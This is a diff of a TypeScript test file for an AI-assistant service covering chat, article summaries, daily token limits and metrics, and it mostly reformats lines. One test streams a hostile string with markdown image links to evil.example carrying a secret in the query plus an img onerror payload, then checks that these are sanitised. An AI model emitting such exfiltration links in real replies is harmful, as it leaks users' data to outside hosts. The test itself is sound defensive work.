@@ -31,10 +31,8 @@ afterEach(() => {
 });
 
 const id = (name: string) => test.ids.get(name) as string;
-const chat = (body: object, client = editor, signal?: AbortSignal) =>
-  test.ask(client, "/mbd-aihub/chat/completions", body, signal);
-const operate = (method: string, body: object = {}) =>
-  test.ask(editor, `/mbd-aihub/nlp/${method}`, { articleId: [id("policy")], ...body });
+const chat = (body: object, client = editor, signal?: AbortSignal) => test.ask(client, "/mbd-aihub/chat/completions", body, signal);
+const operate = (method: string, body: object = {}) => test.ask(editor, `/mbd-aihub/nlp/${method}`, { articleId: [id("policy")], ...body });
 const lastAsked = () => test.asked.at(-1)!;
 
 describe("a model's reply", () => {
@@ -125,8 +123,7 @@ describe("hostile articles", () => {
   });
 
   it("cannot make the reader's browser send anything, however the stream is cut", async () => {
-    const evil =
-      "已总结。![图](https://evil.example/log?q=秘密)[点此](https://evil.example/x)<img src=x onerror=1>[详情](/document?id=3)";
+    const evil = "已总结。![图](https://evil.example/log?q=秘密)[点此](https://evil.example/x)<img src=x onerror=1>[详情](/document?id=3)";
     answers(...[...evil].map((char) => sse(char)));
     const { text } = await operate("articleSummary", { articleId: [id("hostile")] });
     expect(text).toBe("已总结。图点此＜img src=x onerror=1>[详情](/document?id=3)");
@@ -187,10 +184,7 @@ describe("limits", () => {
   it("a day's tokens, as the service counts them; the next day is a new one", async () => {
     const yuqing = await test.signedIn("yuqing");
     limits().tokens = 1000;
-    answers(
-      sse("好"),
-      `data: ${JSON.stringify({ choices: [], usage: { prompt_tokens: 900, completion_tokens: 200 } })}\n\n`,
-    );
+    answers(sse("好"), `data: ${JSON.stringify({ choices: [], usage: { prompt_tokens: 900, completion_tokens: 200 } })}\n\n`);
     await chat({ query: "一" }, yuqing);
     expect((await yuqing.get("/mbd-aihub/status")).data).toMatchObject({ tokensLeft: 0 });
     expect((await chat({ query: "二" }, yuqing)).messages[0]?.limitMsg).toContain("今日额度已用完（1000 token）");
@@ -318,8 +312,7 @@ describe("books", () => {
     expect(entry).toMatchObject({ action: "使用智能助手", object: "审计一下（完成）" });
     const metrics = (await test.app.inject("/metrics")).body;
     expect(metrics).toMatch(/ai_requests_total\{operation="chat",engine="model",outcome="finished"\} \d+/);
-    for (const outcome of ["stopped", "failed", "limited", "refused"])
-      expect(metrics).toContain(`outcome="${outcome}"`);
+    for (const outcome of ["stopped", "failed", "limited", "refused"]) expect(metrics).toContain(`outcome="${outcome}"`);
     expect(metrics).toMatch(/ai_upstream_retries_total\{fault="busy"\} [1-9]/);
     expect(metrics).toContain("ai_streams 0");
     expect(metrics).toMatch(/ai_first_token_seconds_count\{engine="model"\} [1-9]/);
